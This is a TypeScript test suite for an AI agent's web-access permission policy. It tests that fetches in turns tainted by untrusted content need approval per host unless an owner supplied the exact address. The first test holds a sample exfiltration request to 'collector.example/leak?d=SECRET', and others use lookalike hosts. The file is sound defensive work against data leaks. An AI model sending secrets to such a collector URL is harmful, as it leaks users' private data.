// Web requests in a tainted turn: approval once per host, unless an owner gave the address literally.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Message, Sender } from "@parley/contracts";
import { parseCall } from "../../src/policy/parsed-call.ts";
import { decidePermission } from "../../src/policy/decide.ts";
import { rulesFor } from "../../src/policy/principal.ts";
import { addressesGivenIn } from "../../src/policy/web-access.ts";
import { context } from "./support.ts";

const settings = { allow: ["*"], guest_allow: [], ask: [], deny: [] };
const fetchTool = { name: "web_fetch", readOnly: true, risk: "low", effects: ["reads_untrusted"] } as const;
const searchTool = { name: "web_search", readOnly: true, risk: "low", effects: ["reads_untrusted"] } as const;

interface Turn {
  tainted?: boolean;
  given?: ReadonlySet<string>;
  granted?: string[];
  allow?: string[];
}

async function decide(url: string, { tainted = true, given = new Set(), granted = [], allow }: Turn = {}) {
  const rules = rulesFor("owner", { ...settings, allow: allow ?? settings.allow }, {}, { turn: granted });
  return decidePermission(await parseCall(fetchTool, { url }), context({ tainted, ownerAddresses: given, rules }));
}

function message(text: string, from: Partial<Sender> = {}): Message {
  const sender: Sender = {
    channel: "telegram",
    account: "main",
    conversation: "1",
    contact: { id: "telegram:1" },
    role: "owner",
    origin: "user",
    ...from,
  };
  return {
    seq: 1,
    role: "user",
    turnId: "t",
    parts: [{ type: "text", text }],
    model: null,
    from: sender,
    createdAt: "",
  };
}

describe("a request to the web in a tainted turn", () => {
  test("needs approval for its host when only a wildcard allows it", async () => {
    const { decision, step, reason } = await decide("https://collector.example/leak?d=SECRET");
    assert.deepEqual([decision, step], ["ask", "taint"]);
    assert.match(reason, /request to https:\/\/collector\.example; an approval also covers further requests/);
    const search = await parseCall(searchTool, { query: "SECRET" });
    const rules = rulesFor("owner", settings, {});
    assert.equal(decidePermission(search, context({ tainted: true, rules })).decision, "ask");
  });

  test("runs without approval when the turn is clean or a rule names the tool and the host", async () => {
    assert.equal((await decide("https://a.example/", { tainted: false })).decision, "allow");
    assert.equal(
      (await decide("https://a.example/x", { allow: ["web_fetch(https://a.example/*)"] })).decision,
      "allow",
    );
    assert.equal((await decide("https://b.example/x", { allow: ["web_fetch(https://a.example/*)"] })).decision, "ask");
  });

  test("runs without approval when the host was approved earlier in the turn", async () => {
    const granted = ["web_fetch(https://a.example/*)"];
    assert.equal((await decide("https://a.example/other?q=1", { granted })).decision, "allow");
    for (const url of [
      "http://a.example/",
      "https://a.example:8443/",
      "https://a.example.evil/",
      "https://u@a.example/",
    ])
      assert.equal((await decide(url, { granted })).decision, "ask", url);
  });

  test("runs without approval when an owner gave exactly this address", async () => {
    const given = addressesGivenIn([message("Compare https://a.example/x?y=1 with (https://b.example/doc).")]);
    for (const url of ["https://a.example/x?y=1", "https://b.example/doc", "https://a.example/x?y=1#part"])
      assert.equal((await decide(url, { given })).decision, "allow", url);
    for (const url of [
      "https://a.example/x?y=12",
      "https://a.example/x",
      "https://a.example/",
      "http://a.example/x?y=1",
      "https://b.example/doc/more",
    ])
      assert.equal((await decide(url, { given })).decision, "ask", url);
  });
});

describe("an address counts as given by an owner", () => {
  const url = "https://a.example/x";
  test("when an owner's message contains it, in a group too", () => {
    assert.ok(addressesGivenIn([message(url)]).has(url));
    assert.ok(addressesGivenIn([message(`see ${url}!`, { direct: false })]).has(url));
  });

  test("never when it comes from other people, a program or a forwarded message", () => {
    const others: Partial<Sender>[] = [
      { role: "user" },
      { role: "guest" },
      { tainted: true },
      { forwarded: {} },
      { forwarded: { from: "Mallory" } },
      { origin: "webhook" },
      { origin: "subagent" },
      { origin: "cron" },
      { origin: "process" },
    ];
    for (const from of others) assert.equal(addressesGivenIn([message(url, from)]).size, 0, JSON.stringify(from));
    const { from: _, ...note } = message(url);
    assert.equal(addressesGivenIn([note, { ...note, role: "tool" }]).size, 0);
  });
});
